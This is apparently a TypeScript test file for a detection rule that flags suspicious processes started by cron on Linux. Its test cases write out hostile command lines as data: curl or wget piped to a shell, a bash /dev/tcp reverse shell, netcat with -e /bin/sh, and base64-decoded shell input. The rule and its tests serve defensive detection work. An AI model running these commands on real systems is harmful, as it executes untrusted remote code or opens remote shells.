import { describe, expect, test } from 'vitest';
import { t1053LinuxCronChildSuspicious } from '../../../src/t1053/extended/linux-cron-child.ts';
import { process } from '../events.ts';
import { started } from '../linux-events.ts';
import { macStarted, scores, told } from './host-run.ts';

const alert = t1053LinuxCronChildSuspicious;

const CRON = { parentImage: '/usr/sbin/cron' };
const job = (command: string, more = {}) =>
  started('/usr/bin/dash', `/bin/sh -c ${command}`, { ...CRON, ...more });

describe('what fires', () => {
  test.each([
    ['curl -s https://example.org/a.sh | sh', 45],
    ['wget -qO- http://203.0.113.9/k.sh | sudo /bin/bash -s', 65],
    ['curl http://user@203.0.113.9:8080 -o /opt/x', 30],
    ['bash -i >& /dev/tcp/203.0.113.9/443 0>&1', 45],
    ['nc -n 203.0.113.9 443 -e /bin/sh', 45],
    ['echo aWQ= | base64 -d | sh', 40],
    ['/tmp/.x/run', 40],
    ['/dev/shm/k --quiet', 40],
    ['"cd /opt && /tmp/x"', 40],
    ['sleep 5; python3 /var/tmp/a.py', 40],
  ])('%s', (command, score) => {
    expect(scores(alert, job(command))).toEqual([score]);
  });

  test('a program in a folder that everybody may write, and a script there', () => {
    expect(scores(alert, started('/var/tmp/k', '/var/tmp/k', CRON))).toEqual([40]);
    expect(scores(alert, started('/usr/bin/python3', 'python3 /tmp/a.py', CRON))).toEqual([40]);
  });

  test('a client of the network ranks low', () => {
    const client = started('/usr/bin/curl', 'curl -fsS https://example.org/ping', CRON);
    expect(scores(alert, client)).toEqual([15]);
  });

  test.each(['cron', 'crond', 'anacron', 'atd'])('below %s', (name) => {
    expect(scores(alert, job('/tmp/x', { parentImage: `/usr/sbin/${name}` }))).toEqual([40]);
  });

  test('with other processes between', () => {
    const events = [
      started('/usr/bin/dash', '/bin/sh -c /opt/job', { ...CRON, pid: 5 }),
      started('/usr/bin/bash', 'bash /opt/job', { pid: 6, parentPid: 5, atMs: 5 }),
      started('/tmp/x', '/tmp/x', { pid: 7, parentPid: 6, atMs: 9 }),
    ];
    expect(scores(alert, ...events)).toEqual([40]);
  });
});

test('a job and what it starts are one', () => {
  const line = 'curl http://203.0.113.9/x';
  const child = { ...CRON, pid: 6, parentPid: 5, atMs: 5 };
  const events = [job(`${line} | sh`, { pid: 5 }), started('/usr/bin/curl', line, child)];
  expect(told(alert, events)).toHaveLength(1);
});

describe('a job that repeats', () => {
  test('is told once for each host and line', () => {
    const again = job('/tmp/x', { pid: 2, atMs: 60_000 });
    expect(told(alert, [job('/tmp/x', { pid: 1 }), again])).toHaveLength(1);
    const other = job('/tmp/y', { pid: 2, atMs: 60_000 });
    expect(told(alert, [job('/tmp/x', { pid: 1 }), other])).toHaveLength(2);
    const elsewhere = job('/tmp/x', { pid: 2, atMs: 60_000, host: 'web02' });
    expect(told(alert, [job('/tmp/x', { pid: 1 }), elsewhere])).toHaveLength(2);
  });
});

test('what somebody typed before does not hide the job', () => {
  const typed = started('/tmp/x', '/tmp/x', { parentImage: '/usr/bin/bash', pid: 4 });
  const run = started('/tmp/x', '/tmp/x', { ...CRON, pid: 5, atMs: 60_000 });
  expect(scores(alert, typed, run)).toEqual([40]);
});

describe('what looks alike', () => {
  test.each([
    ['an address of the own network', job('curl http://10.0.0.5/ping')],
    ['a usual job', job('run-parts --report /etc/cron.daily')],
    ['the clean-up of a folder', job('find /tmp -mtime +7 -delete')],
    ['an argument there', job('/usr/bin/backup --to /var/tmp/x')],
    ['a fetch without an interpreter', job('curl -s https://example.org/a.gz | gunzip')],
    ['a pipe without a fetch', job('cat /opt/a.sh | sh')],
    ['encoding', job('base64 /etc/motd')],
    ['no interpreter of that name', job('curl https://example.org/x | shuf')],
    ['another parent', job('/tmp/x', { parentImage: '/usr/sbin/sshd' })],
    ['no parent at all', job('/tmp/x', { parentImage: undefined })],
    ['a name that only begins so', job('/tmp/x', { parentImage: '/usr/bin/cronie-tool' })],
    ['macOS', macStarted('/tmp/x a', CRON)],
    ['Windows', process('curl http://203.0.113.9 | sh', CRON)],
  ])('%s is silent', (_, event) => {
    expect(scores(alert, event)).toEqual([]);
  });
});

test('long hostile lines are done with', () => {
  for (const seed of [
    'curl ',
    'curl |',
    'nc -',
    'nc x ',
    'http://1.',
    '| sudo ',
    '/tmp/',
    'base64 ',
  ]) {
    expect(() => told(alert, [job(seed.repeat(65_536 / seed.length))])).not.toThrow();
  }
});
